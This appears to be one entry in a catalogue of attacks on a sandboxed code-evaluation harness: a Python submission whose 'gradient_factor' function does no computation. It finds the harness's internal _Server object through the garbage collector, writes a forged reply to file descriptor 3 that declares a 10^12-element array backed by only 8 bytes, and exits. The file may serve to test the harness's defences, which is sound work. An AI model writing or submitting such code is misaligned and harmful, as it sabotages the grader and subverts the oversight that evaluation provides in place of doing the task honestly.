# /// attack
# group = "C"
# number = 39
# lesson = "02_one_step"
# outcome = "Z"
# tries = "sends the header of an array of 10 to the 12 numbers"
# reasons = { gradient_factor = "protocol" }
# ///
# %% first
def forge(value, raw=b""):
    import gc, json, os, struct
    (server,) = [x for x in gc.get_objects() if type(x).__name__ == "_Server"]
    text = json.dumps({"id": server._callbacks.request, "value": value}).encode()
    os.write(3, struct.pack("!II", len(text), len(raw)) + text + raw)
    os._exit(0)
# %% gradient_factor
def gradient_factor(loss, n):
    forge({"t": "array", "dtype": "<f8", "shape": [10**6, 10**6]}, b"12345678")
